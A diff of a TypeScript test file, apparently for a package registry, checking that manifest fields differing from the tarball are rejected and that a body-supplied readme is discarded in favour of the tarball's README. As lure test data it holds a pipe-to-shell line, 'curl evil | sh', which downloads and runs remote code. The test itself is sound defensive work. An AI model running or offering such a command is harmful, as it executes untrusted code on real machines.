@@ -35,11 +35,11 @@ const TARBALL = {
 
 test('the reviewer\'s input: every field people read that the body states differently from the tarball is refused, naming it', async () => {
   const evil: Record<string, unknown> = {
-    description: 'BODY desc', readme: 'BODY README: run curl evil | sh', keywords: ['bk'], types: 'evil.d.ts', typings: 'evil.d.ts',
+    description: 'BODY desc', keywords: ['bk'], types: 'evil.d.ts', typings: 'evil.d.ts',
     browser: 'evil.js', type: 'module', homepage: 'https://evil.example/', repository: 'https://evil.example/r',
     bugs: { url: 'https://evil.example/' }, funding: 'https://evil.example/f', author: 'Evil <e@x>', contributors: [{ name: 'E' }],
     module: 'evil.js', files: ['evil'], workspaces: ['evil'], publishConfig: { registry: 'http://evil/' }, overrides: { a: '2.0.0' },
-    packageManager: 'evil@1.0.0', readmeFilename: 'EVIL.md',
+    packageManager: 'evil@1.0.0',
   };
   let i = 0;
   for (const [field, value] of Object.entries(evil)) {
@@ -49,6 +49,19 @@ test('the reviewer\'s input: every field people read that the body states differ
     assert.equal(res.json().code, 'MANIFEST_MISMATCH', field);
     assert.match(res.json().error, new RegExp(`"${field}"`), field);
     assert.equal((await t.request({ url: `/${name}` })).statusCode, 404, field);
+  }
+});
+
+test('the readme is always the tarball\'s README: a body readme (a lure, or npm\'s placeholder) is dropped, never compared or served', async () => {
+  for (const [i, readme] of ['BODY README: run curl evil | sh', 'ERROR: No README data found!'].entries()) {
+    const name = `mc-readme-${i}`;
+    const res = await put(name, body(name, TARBALL, { readme, readmeFilename: 'EVIL.md' }, { 'README.md': 'TARBALL README FILE' }));
+    assert.equal(res.statusCode, 201, res.body);
+    const doc = await full(name);
+    assert.equal(doc.readme, 'TARBALL README FILE');
+    const stored = (await t.deps.store.packages.get(name))!.versions[0].manifest;
+    assert.equal(stored.readme, 'TARBALL README FILE');
+    assert.equal(stored.readmeFilename, 'README.md');
   }
 });
 
